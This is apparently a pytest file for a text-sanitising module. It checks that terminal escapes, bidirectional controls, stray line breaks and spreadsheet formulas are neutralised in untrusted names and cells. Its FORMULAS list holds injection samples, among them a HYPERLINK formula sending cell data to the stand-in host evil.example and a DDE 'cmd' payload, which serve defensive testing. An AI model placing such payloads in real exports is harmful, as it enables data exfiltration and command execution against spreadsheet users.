"""Text that others named: what is seen is what is there, and nothing obeys it."""

from __future__ import annotations

import json
import timeit
import unicodedata

import pytest

from joinder.clean import MARK, clean_cell, clean_json, clean_line, clean_text

EVERY = [chr(code) for code in range(0x110000)]
STEERING = ("Cc", "Cf", "Cs", "Zl", "Zp")
HONEST = [
    "Dach Süd",
    "屋根 1号",
    "Крыша",
    "سقف",
    "गृह",
    "São Tomé\u00a0Lda",
    "☀️ home 🏠",
    "e\u0301tage",
    "[/] {x} <b> %s =1+1",
    "",
]


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_name_is_the_same_object(text: str) -> None:
    assert clean_line(text) is text
    assert clean_text(text) is text
    assert clean_json(text) is text


def test_no_letter_that_steers_or_is_not_seen_is_left_in_a_line() -> None:
    left = [letter for letter in EVERY if unicodedata.category(letter) in STEERING and clean_line(letter) == letter]
    # Arabic and Syriac signs of format that are drawn
    assert {unicodedata.name(letter).split()[0] for letter in left} <= {"ARABIC", "SYRIAC"}


def test_each_bidirectional_control_is_replaced() -> None:
    controls = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    found = [letter for letter in EVERY if unicodedata.bidirectional(letter) in controls]
    assert len(found) == len(controls)
    assert clean_line("".join(found)) == clean_text("".join(found)) == MARK * len(controls)


@pytest.mark.parametrize(
    "text", ["\x1b]0;x\x07", "\x9b31m", "\x1b]52;c;aGk=\x07", "\x90q\x9c", "a\x08b", "\x85", "\x00"]
)
def test_an_order_to_the_terminal_leaves_its_letters_only(text: str) -> None:
    for clean in (clean_line, clean_text):
        cleaned = clean(text)
        assert len(cleaned) == len(text)
        assert all(letter.isprintable() for letter in cleaned)


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029"])
def test_a_line_stays_one_line_however_it_would_end(end: str) -> None:
    assert clean_line(f"one{end}two").splitlines() == [f"one{MARK * len(end)}two"]


def test_a_text_keeps_its_line_ends_and_tabs_and_no_return_of_the_carriage() -> None:
    assert clean_text("a\n\tb\r\nc\rd\x0be") == f"a\n\tb\nc{MARK}d{MARK}e"


def test_cleaning_twice_changes_nothing_more() -> None:
    everything = "".join(EVERY)
    assert clean_line(clean_line(everything)) == clean_line(everything)
    assert clean_text(clean_text(everything)) == clean_text(everything)


def test_json_decodes_to_the_same_value_and_has_nothing_that_steers() -> None:
    value = {"name": "".join(EVERY), "\u202ekey": ["\x9b31m", "\U000e0041", "\ud800", '\\"\x7f']}
    written = clean_json(json.dumps(value, ensure_ascii=False, indent=2))
    assert json.loads(written) == json.loads(json.dumps(value))
    assert clean_text(written) == written
    written.encode()


def test_a_clean_name_costs_little() -> None:
    name = "Familie Beispiel, Dach Süd 12"
    assert min(timeit.repeat(lambda: clean_line(name), number=1000, repeat=5)) < 0.02  # 0.3 µs each here


def test_a_very_long_hostile_name_costs_in_proportion() -> None:
    assert clean_line("\x1b" * 1_000_000) == MARK * 1_000_000


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1;"roof")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\uff1d1+1",
    "-",
    "+49 30 1234",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_is_no_formula(text: str) -> None:
    assert clean_cell(text) == "'" + text
    assert clean_cell(clean_cell(text)) == "'" + text


@pytest.mark.parametrize(
    "text", ["-5", "+3.25", "-0,5", "roof = 7", "customer-7", "", "a@b.example", "2026-06-01T00:00+02:00"]
)
def test_a_cell_that_is_none_stays_as_it_is(text: str) -> None:
    assert clean_cell(text) == text


def test_a_cell_keeps_to_its_line() -> None:
    assert clean_cell("one\r\n=2") == f"one{MARK}{MARK}=2"
    assert clean_cell("\t=2") == f"{MARK}=2"
